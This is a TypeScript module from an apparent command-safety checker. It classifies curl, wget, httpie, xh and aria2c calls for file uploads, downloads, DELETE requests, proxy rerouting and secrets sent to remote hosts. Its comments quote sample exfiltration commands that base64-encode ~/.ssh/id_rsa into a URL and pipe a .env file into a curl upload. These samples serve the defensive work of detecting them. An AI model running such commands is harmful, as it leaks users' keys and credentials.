/**
 * HTTP clients (curl, wget, httpie, xh, aria2c): destinations, uploads of files and of stdin, output to a
 * file (remembered as a download), `-X DELETE` and delete-by-query calls, and secret material sent to a
 * non-local host. Pure apart from reporting.
 */

import { ownVendorHost } from '../classify/secret-variable';
import { type Invocation, optionText, plain, type Reporter } from '../unwrap/invocation';
import type { Word } from '../walk/decode-word';
import { type Flow, OPAQUE_FLOW } from '../walk/flow';
import { forgeEndpoint, forgeRequest } from './forge-api';
import { localService, unixSocket } from './local-services';
import { hostOf, networkTarget } from './network-target';
import { stdinSensitive, touchPath } from './path-effects';

const CURL_VALUES = new Set([
  '-o',
  '--output',
  '-d',
  '--data',
  '--data-binary',
  '--data-raw',
  '--data-ascii',
  '--data-urlencode',
  '-H',
  '--header',
  '-X',
  '--request',
  '-u',
  '--user',
  '-F',
  '--form',
  '-T',
  '--upload-file',
  '-A',
  '--user-agent',
  '-e',
  '--referer',
  '-b',
  '--cookie',
  '-c',
  '--cookie-jar',
  '-x',
  '--proxy',
  '-m',
  '--max-time',
  '--connect-timeout',
  '-w',
  '--write-out',
  '-K',
  '--config',
  '--url',
  '-r',
  '--range',
  '--retry',
  '--cacert',
  '--cert',
  '--key',
  '-E',
  '--resolve',
  '--connect-to',
  '--preproxy',
  '--proxy1.0',
  '--socks4',
  '--socks4a',
  '--socks5',
  '--socks5-hostname',
  '--doh-url',
  '--unix-socket',
  '--abstract-unix-socket',
  '-U',
  '--proxy-user',
  '--json',
  '-Y',
  '-y',
  '-z',
  '-C',
]);

/** Options that send a request somewhere other than its URL's host, or read more options from a file. */
const REROUTE =
  /^(--connect-to|--resolve|--proxy|--preproxy|--socks\w*|--doh-url|--config|-K|-x|-e|--referer)(=|$)|^-[a-zA-Z]*[xK]/;

/** httpie's and xh's program names: request items follow the URL. */
const HTTPIE = new Set(['http', 'https', 'xh', 'xhs', 'curlie']);
const HTTP_METHODS = /^(GET|POST|PUT|PATCH|DELETE|HEAD|OPTIONS|get|post|put|patch|delete|head|options)$/;

/**
 * Where a data option names a file whose content is sent: `@file` everywhere, `name=@file` and `name=<file` in a
 * form, `name@file` in `--data-urlencode`. -1 when the text is sent as it is.
 */
function fileAt(t: string, urlencode: boolean): number {
  if (t.startsWith('@') || t.startsWith('<')) return 0;
  const form = /^[^=@<]*=[@<]/.exec(t);
  if (form) return form[0].length - 1;
  if (urlencode) {
    const named = /^[^=@]*@/.exec(t);
    if (named) return named[0].length - 1;
  }
  return -1;
}

function sends(inv: Invocation, r: Reporter, data: Word, nonLocal: boolean, urlencode = false): void {
  const t = plain(data);
  const at = fileAt(t, urlencode);
  if (at >= 0) {
    const file = t.slice(at + 1).replace(/;.*$/, '');
    const mark = t[at] as string;
    if (file === '-') {
      if (stdinSensitive(inv, r) && nonLocal)
        r.exfiltration(
          inv.segment,
          `\`${inv.program}\` sends secret material from its input to a remote host`,
        );
      return;
    }
    const res = touchPath(
      { text: data.text.slice(data.text.indexOf(mark) + 1).replace(/;.*$/, ''), flow: data.flow },
      'read',
      inv,
      r,
    );
    if (res.class === 'sensitive' && nonLocal)
      r.exfiltration(inv.segment, `\`${inv.program}\` uploads secret material to a remote host`);
  }
}

/**
 * A short option and its attached value: `-sd @-` is `-s -d @-`, `-sLo out` is `-s -L -o out`. Flags before the
 * first letter that takes a value are skipped (they take none); the rest of the word is that option's value.
 */
function shortCluster(t: string): [string, string | undefined] {
  if (t.length > 2 && t.startsWith('-') && !CURL_VALUES.has(t.slice(0, 2)) && /^-[A-Za-z0-9#:]+$/.test(t)) {
    for (let j = 2; j < t.length; j++) {
      const letter = `-${t[j]}`;
      if (CURL_VALUES.has(letter)) return [letter, t.length > j + 1 ? t.slice(j + 1) : undefined];
    }
  }
  return [t.slice(0, 2), t.length > 2 ? t.slice(2) : undefined];
}

export function curlLike(inv: Invocation, r: Reporter): Flow {
  const args = inv.args;
  const urls: string[] = [];
  const data: Word[] = [];
  const encoded = new Set<Word>();
  /** Hosts the request really goes to besides its URLs: a proxy, a `--connect-to`/`--resolve` target. */
  const via: string[] = [];
  let toFile = false;
  let method = '';
  for (let i = 0; i < args.length; i++) {
    const t = optionText(args[i]);
    const [name, attached] = t.startsWith('--')
      ? [t.split('=')[0] ?? t, t.includes('=') ? t.slice(t.indexOf('=') + 1) : undefined]
      : shortCluster(t);
    if (t.startsWith('-') && t.length > 1 && (CURL_VALUES.has(name) || CURL_VALUES.has(t))) {
      const value =
        attached !== undefined && !CURL_VALUES.has(t)
          ? { text: attached, flow: args[i]?.flow ?? OPAQUE_FLOW }
          : (args[++i] as Word | undefined);
      if (!value) continue;
      const key = CURL_VALUES.has(t) ? t : name;
      if (key === '-o' || key === '--output') {
        toFile = plain(value) !== '-';
        if (toFile) {
          const res = touchPath(value, 'write', inv, r);
          if (res.resolved) r.downloaded.add(res.resolved);
        }
      } else if (
        [
          '-d',
          '--data',
          '--data-binary',
          '--data-raw',
          '--data-ascii',
          '--data-urlencode',
          '-F',
          '--form',
          '--json',
        ].includes(key)
      ) {
        data.push(value);
        if (key === '--data-urlencode') encoded.add(value);
      } else if (key === '-w' || key === '--write-out') {
        // `-w @file` reads the format from that file and prints it.
        if (plain(value).startsWith('@') && plain(value) !== '@-')
          touchPath(
            { text: value.text.slice(value.text.indexOf('@') + 1), flow: value.flow },
            'read',
            inv,
            r,
          );
      } else if (
        ['-x', '--proxy', '--preproxy', '--proxy1.0', '--doh-url'].includes(key) ||
        key.startsWith('--socks')
      )
        via.push(proxyHost(plain(value)));
      else if (key === '--connect-to') via.push(...connectTo(plain(value)));
      else if (key === '--resolve') via.push(...resolveTo(plain(value)));
      else if (key === '-T' || key === '--upload-file')
        data.push({ text: `@${value.text}`, flow: value.flow });
      else if (key === '-X' || key === '--request') method = plain(value).toUpperCase();
      else if (key === '--url') urls.push(plain(value));
      else if (key === '--unix-socket' || key === '--abstract-unix-socket') unixSocket(plain(value), inv, r);
      else if (key === '-H' || key === '--header' || key === '-u' || key === '--user') data.push(value);
    } else if (inv.program === 'wget' && (/^-[a-zA-Z]*O$/.test(t) || t === '--output-document')) {
      const out = args[++i];
      if (out && plain(out) !== '-') {
        const res = touchPath(out, 'write', inv, r);
        if (res.resolved) r.downloaded.add(res.resolved);
      }
    } else if (t === '-O' || t === '--remote-name' || /^-[a-zA-Z]*O$/.test(t)) toFile = true;
    else if (!t.startsWith('-') && HTTPIE.has(inv.program) && urls.length > 0) {
      // httpie and xh: after the URL come request items; `@file` is the body, `name=@file`, `name:=@file` and
      // `name@file` (a form upload) send a file's text.
      const w = args[i] as Word;
      const item = /^[^=:@]*(?::=@|=@|@)/.exec(t);
      if (t.startsWith('@')) data.push(w);
      else if (item) data.push({ text: `x=@${w.text.slice(w.text.indexOf('@') + 1)}`, flow: w.flow });
    } else if (!t.startsWith('-')) {
      if (HTTPIE.has(inv.program) && urls.length === 0 && HTTP_METHODS.test(t)) method = t.toUpperCase();
      else urls.push(plain(args[i]));
    }
  }
  if (inv.program === 'wget') {
    const texts = args.map((w) => plain(w));
    toFile = !texts.some(
      (t, k) =>
        /^-[a-zA-Z]*O-$/.test(t) ||
        t === '--output-document=-' ||
        (/^-[a-zA-Z]*O$/.test(t) && texts[k + 1] === '-'),
    );
    for (const w of args) {
      const t = plain(w);
      if (/^--(post-file|body-file)=/.test(t))
        data.push({ text: `@${w.text.slice(w.text.indexOf('=') + 1)}`, flow: w.flow });
    }
  }
  // curl expands `{a,b}` sets and `[1-3]` ranges in every URL before it connects (unless -g): each expansion
  // is a URL of its own.
  const globoff = args.some((w) => /^(-[a-zA-Z]*g[a-zA-Z]*|--globoff)$/.test(optionText(w)));
  if (inv.program === 'curl' && !globoff) urls.splice(0, urls.length, ...expandCurlGlobs(urls, inv, r));
  let nonLocal = false;
  for (const host of via) {
    if (host === '') continue;
    const url = `http://${host.includes(':') && !host.startsWith('[') ? `[${host}]` : host}/`;
    localService(url, inv, r);
    nonLocal = networkTarget(url, inv.program, inv, r) || nonLocal;
  }
  inputList(inv, r);
  let readsSecret = false;
  for (const url of urls) readsSecret = localService(url, inv, r) || readsSecret;
  for (const url of urls) {
    // A `file:` URL is a read on this machine, judged above (one naming another host is uncertain there).
    if (/^file:/i.test(url)) continue;
    // httpie's and xh's URL needs no scheme (`:3000/x` is this machine); a bare IPv4 address is a host anywhere.
    if (HTTPIE.has(inv.program) && url.startsWith(':')) continue;
    if (
      hostOf(url) ||
      /^[\w.-]+\.[a-z]{2,}([/:?#]|$)/i.test(url) ||
      /^\d{1,3}(\.\d{1,3}){3}([/:?#]|$)/.test(url)
    ) {
      nonLocal = networkTarget(hostOf(url) ? url : `http://${url}`, inv.program, inv, r) || nonLocal;
    }
  }
  if (method === 'DELETE' || urls.some((u) => /\/_delete_by_query\b|\/_flush_all\b/.test(u)))
    r.hit(
      'remote_resource_delete',
      `\`${inv.program} -X DELETE\` deletes a resource on a server`,
      inv.segment,
    );
  for (const url of urls) {
    const endpoint = forgeEndpoint(url);
    if (endpoint === undefined) continue;
    const body = data.map((d) => plain(d)).join('\n');
    forgeRequest({ method: method || (data.length > 0 ? 'POST' : 'GET'), endpoint, body }, inv, r);
  }
  // A vendor's token presented to that vendor's own host only (`$GITHUB_TOKEN` to api.github.com), with nothing
  // that sends the request elsewhere, is not exfiltration; the host is still judged as any other.
  const rerouted = args.some((w) => REROUTE.test(optionText(w)));
  const own = (f: Flow) =>
    !rerouted &&
    f.envSecrets !== undefined &&
    urls.length > 0 &&
    urls.every((u) => {
      const host = hostOf(u) ?? hostOf(`http://${u}`);
      return host !== undefined && ownVendorHost(f.envSecrets ?? [], host);
    });
  for (const d of data) {
    sends(inv, r, d, nonLocal, encoded.has(d));
    if (d.flow.sensitive && nonLocal && !own(d.flow)) {
      r.exfiltration(inv.segment, `\`${inv.program}\` sends secret material to a remote host`);
    }
  }
  // httpie and xh send their standard input as the body when no item gives one (`http POST h < F`).
  if (stdinSensitive(inv, r) && nonLocal && (data.length > 0 || HTTPIE.has(inv.program)))
    r.exfiltration(inv.segment, `\`${inv.program}\` sends secret material from its input to a remote host`);
  for (const w of args)
    if (w.flow.sensitive && nonLocal && !own(w.flow))
      r.exfiltration(inv.segment, `\`${inv.program}\` sends secret material to a remote host`);
  // Fetched text is network data even from loopback: a local server can still serve a script.
  // A `file:` URL of a secret printed to stdout carries it down the pipe (`curl file:///…/.env | curl -d @- …`).
  return toFile ? OPAQUE_FLOW : { sensitive: readsSecret, network: true, decoded: false, opaque: true };
}

/**
 * `aria2c -i LIST`, `wget -i LIST`: every line of the list is a request. A list built from secret material
 * (`--input-file=<(echo "http://h/?k=$(base64 ~/.ssh/id_rsa)")`) puts the secret into the requests themselves,
 * whichever hosts they name: exfiltration (only a list of this machine's URLs would not be, and that cannot be read).
 */
function inputList(inv: Invocation, r: Reporter): void {
  if (inv.program !== 'aria2c' && inv.program !== 'wget') return;
  const args = inv.args;
  for (let i = 0; i < args.length; i++) {
    const t = optionText(args[i]);
    const w = args[i] as Word;
    const list =
      t === '-i' || t === '--input-file' || t === '--input-file='
        ? args[i + 1]
        : t.startsWith('--input-file=')
          ? w
          : /^-i./.test(t)
            ? w
            : undefined;
    if (list?.flow.sensitive)
      r.exfiltration(inv.segment, `\`${inv.program}\` requests URLs built from secret material`);
  }
}

/** More URLs than this from one curl glob: the rest are not judged, so the command is uncertain. */
const MAX_GLOB_URLS = 64;

/**
 * curl's URL globbing: `{a,b,c}` alternatives and `[a-z]`/`[1-9:2]` ranges, every value (a `file:` URL's
 * path may name a secret only in the middle of a range: `.en[u-w]`). More forms than `MAX_GLOB_URLS` are not
 * all judged: the command is uncertain. Nested or unbalanced sets are not globs to curl (it fails), and are
 * kept as written.
 */
function expandCurlGlobs(urls: readonly string[], inv: Invocation, r: Reporter): string[] {
  const out: string[] = [];
  for (const url of urls) {
    let forms = [''];
    let i = 0;
    let ok = true;
    while (i < url.length) {
      const c = url[i] as string;
      const close = c === '{' ? url.indexOf('}', i) : c === '[' ? url.indexOf(']', i) : -1;
      if ((c === '{' || c === '[') && close > i && !/[{[]/.test(url.slice(i + 1, close))) {
        const body = url.slice(i + 1, close);
        const range = /^([a-zA-Z0-9]+)-([a-zA-Z0-9]+)(:\d+)?$/.exec(body);
        const choices = c === '{' ? body.split(',') : range ? rangeValues(range) : [body];
        // `[::1]`, an IPv6 literal, is not a range.
        if (c === '[' && !range) {
          forms = forms.map((f) => `${f}[${body}]`);
        } else {
          forms = forms.flatMap((f) => choices.map((x) => f + x));
        }
        if (choices.length > MAX_GLOB_URLS || forms.length > MAX_GLOB_URLS) {
          ok = false;
          break;
        }
        i = close + 1;
        continue;
      }
      forms = forms.map((f) => f + c);
      i++;
    }
    if (!ok) {
      r.uncertain(
        'dynamic-command',
        `\`${inv.program}\` expands a URL into more than ${MAX_GLOB_URLS} requests`,
        inv.segment,
      );
      out.push(url);
    } else out.push(...forms);
  }
  return out;
}

/**
 * The values of a curl range `[a-z]`, `[1-9:2]`, `[001-100]` as curl makes them (letters of one case, numbers
 * with the width of a zero-padded start, an optional step); one more than `MAX_GLOB_URLS` when there are more.
 * A range curl would refuse (mixed kinds, end before start) is kept as its two ends.
 */
function rangeValues(range: RegExpExecArray): string[] {
  const from = range[1] as string;
  const to = range[2] as string;
  const step = range[3] ? Number(range[3].slice(1)) : 1;
  const out: string[] = [];
  if (/^\d+$/.test(from) && /^\d+$/.test(to)) {
    const width = from.startsWith('0') ? from.length : 0;
    for (let n = Number(from); n <= Number(to) && out.length <= MAX_GLOB_URLS; n += Math.max(step, 1))
      out.push(String(n).padStart(width, '0'));
  } else if (
    /^[a-z]$/.test(from) === /^[a-z]$/.test(to) &&
    /^[a-zA-Z]$/.test(from) &&
    /^[a-zA-Z]$/.test(to)
  ) {
    for (
      let n = from.charCodeAt(0);
      n <= to.charCodeAt(0) && out.length <= MAX_GLOB_URLS;
      n += Math.max(step, 1)
    )
      out.push(String.fromCharCode(n));
  }
  return out.length > 0 ? out : [from, to];
}

/** The host of a proxy option's value (`[scheme://][user@]host[:port]`). */
function proxyHost(value: string): string {
  const rest = value.replace(/^[a-z][a-z0-9+.-]*:\/\//i, '').replace(/^[^@/]*@/, '');
  const bracket = /^\[([^\]]*)\]/.exec(rest);
  if (bracket) return bracket[1] as string;
  return rest.split(/[:/]/)[0] ?? '';
}

/** Splits `a:b:c` on colons outside brackets (IPv6 addresses are bracketed in curl's host:port lists). */
function fields(value: string): string[] {
  const out: string[] = [];
  let cur = '';
  let depth = 0;
  for (const ch of value) {
    if (ch === '[') depth++;
    if (ch === ']') depth--;
    if (ch === ':' && depth === 0) {
      out.push(cur);
      cur = '';
    } else cur += ch;
  }
  out.push(cur);
  return out.map((f) => f.replace(/^\[|\]$/g, ''));
}

/** `--connect-to HOST1:PORT1:HOST2:PORT2`: the connection goes to HOST2 (empty: the URL's own host). */
function connectTo(value: string): string[] {
  const f = fields(value);
  return f.length >= 3 ? [f[2] as string] : [''];
}

/** `--resolve [+]HOST:PORT:ADDR[,ADDR]...`: the connection goes to those addresses. */
function resolveTo(value: string): string[] {
  const f = fields(value.replace(/^[+-]/, ''));
  return f.length >= 3
    ? f
        .slice(2)
        .join(':')
        .split(',')
        .map((a) => a.replace(/^\[|\]$/g, ''))
    : [];
}
